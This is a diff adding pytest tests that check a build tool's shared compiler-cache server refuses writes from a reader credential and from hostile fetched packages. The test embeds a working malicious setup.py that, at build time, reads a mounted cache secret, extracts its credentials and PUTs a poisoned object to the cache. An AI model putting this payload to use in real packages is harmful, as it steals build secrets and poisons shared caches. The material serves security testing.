@@ -16,6 +16,7 @@ from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
+import requests
 
 from .conftest import dockerarch
 from .test_farm import free_port, write_project
@@ -156,3 +157,105 @@ def test_wrong_credentials_stop_the_build_before_it_starts_and_stay_unsaid(
     assert done.returncode == 0 and "shared compiler cache" not in done.stderr, done.stderr[-2000:]
     with zipfile.ZipFile(next((tmp_path / "debian-armv7" / "farmdemo-1.0").glob("*.whl"))) as z:
         assert any(n.startswith("farmmod") for n in z.namelist())
+
+
+# --- who may write ---------------------------------------------------------------------------------
+
+WRITER, READER = STATE / "ccache" / "credentials", STATE / "ccache" / "reader-credentials"
+
+
+def _auth(path: Path) -> tuple[str, str]:
+    user, _, password = path.read_text().strip().partition(":")
+    return user, password
+
+
+def test_the_server_refuses_the_reader_every_write() -> None:
+    """setup-host's server: the reader's credential reads; PUT and DELETE need the writer's (the
+    server itself refuses them, whatever a client's read-only attribute says)."""
+    session = requests.Session()
+    session.trust_env = False
+    url = f"http://127.0.0.1:3142/ccache/0000000000000000/reader-probe-{random.randrange(1 << 30)}"
+    assert session.put(url, data=b"x", auth=_auth(READER), timeout=5).status_code == 401
+    assert session.get(url, auth=_auth(READER), timeout=5).status_code == 404  # never written
+    assert session.put(url, data=b"x", auth=_auth(WRITER), timeout=5).status_code == 201
+    assert session.get(url, auth=_auth(READER), timeout=5).content == b"x"
+    assert session.delete(url, auth=_auth(READER), timeout=5).status_code == 401
+    assert session.delete(url, auth=_auth(WRITER), timeout=5).status_code == 204
+
+
+HOSTILE = "dockerarch-settest-hostile"
+# What a hostile sdist can do with nothing but what its build step is given: read the shared
+# cache's secret and PUT an object of its choosing under a key (issue 55's attack, for real)
+HOSTILE_SETUP = """\
+import base64, sys, urllib.parse, urllib.request
+from setuptools import Extension, setup
+
+def poison():
+    try:
+        line = open("/run/secrets/dockerarch-ccache-remote").read().strip()
+    except OSError as exc:
+        return "no secret: %r" % exc
+    parts = urllib.parse.urlsplit(line.split("|")[0])
+    pair = "%s:%s" % (urllib.parse.unquote(parts.username or ""), urllib.parse.unquote(parts.password or ""))
+    url = "http://%s:%s%s/0000000000000000/poison-MARK" % (parts.hostname, parts.port, parts.path)
+    request = urllib.request.Request(url, data=b"poisoned", method="PUT",
+                                     headers={"Authorization": "Basic " + base64.b64encode(pair.encode()).decode()})
+    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
+    try:
+        return opener.open(request, timeout=5).status
+    except Exception as exc:
+        return repr(exc)
+
+print("hostile build: PUT answered", poison(), file=sys.stderr)
+setup(ext_modules=[Extension("hostile", ["hostile.c"])])
+"""
+HOSTILE_C = """#include <Python.h>
+static struct PyModuleDef mod = {PyModuleDef_HEAD_INIT, "hostile", NULL, -1, NULL};
+PyMODINIT_FUNC PyInit_hostile(void) { return PyModule_Create(&mod); }
+"""
+
+
+def test_a_fetched_sdists_build_cannot_write_to_the_team_cache(tmp_path: Path) -> None:
+    """The same hostile project twice: fetched from an index as a set's member, its setup.py
+    finds only the reader's credential and its PUT is refused (the object never exists); built
+    from the user's own tree (--package DIR), it is the writer's and the PUT lands, which proves
+    the attack is real and the first build really was stopped by the split."""
+    from dockerarch.closure import default_index
+
+    from .settest_index import _pkg_info, _pyproject, sdist, serve
+
+    mark = f"{random.randrange(1 << 40):x}"
+    files = {"pyproject.toml": _pyproject(HOSTILE, ["setuptools"], []),
+             "PKG-INFO": _pkg_info(HOSTILE, []), "setup.py": HOSTILE_SETUP.replace("MARK", mark),
+             "hostile.c": HOSTILE_C}  # fmt: skip
+    root = tmp_path / "index"
+    (root / "files").mkdir(parents=True)
+    made = sdist(root / "files", HOSTILE, files)
+    page = root / "simple" / HOSTILE
+    page.mkdir(parents=True)
+    digest = hashlib.sha256(made.read_bytes()).hexdigest()
+    (page / "index.html").write_text(
+        f'<a href="../../files/{made.name}#sha256={digest}">{made.name}</a>\n'
+    )
+    env = config(tmp_path, "http://127.0.0.1:3142/ccache/")
+    poison = f"http://127.0.0.1:3142/ccache/0000000000000000/poison-{mark}"
+    session = requests.Session()
+    session.trust_env = False
+    (tmp_path / "r.txt").write_text(f"{HOSTILE}==1.0\n")
+    with serve(root) as index:
+        fetched = dockerarch("build", "wheel", "-r", str(tmp_path / "r.txt"), "--index-url", index,
+                             "--extra-index-url", default_index(), "--arch", "armv7", "--out",
+                             str(tmp_path / "set"), "--progress", "plain", env=env, timeout=1800)  # fmt: skip
+    assert fetched.returncode == 0, fetched.stderr[-3000:]
+    assert "read only for this build (not your own code" in said(fetched)
+    assert session.get(poison, auth=_auth(WRITER), timeout=5).status_code == 404
+    assert re.search(rf'"PUT /ccache/0+/poison-{mark} HTTP/1\.\d" 401', ACCESS_LOG.read_text())
+    tree = tmp_path / "tree"
+    for name, text in files.items():
+        (tree / name).parent.mkdir(parents=True, exist_ok=True)
+        (tree / name).write_text(text)
+    own = build(tree, tmp_path / "own", env)
+    assert own.returncode == 0, own.stderr[-3000:]
+    assert "read only for this build" not in said(own)
+    assert session.get(poison, auth=_auth(WRITER), timeout=5).content == b"poisoned"
+    session.delete(poison, auth=_auth(WRITER), timeout=5)
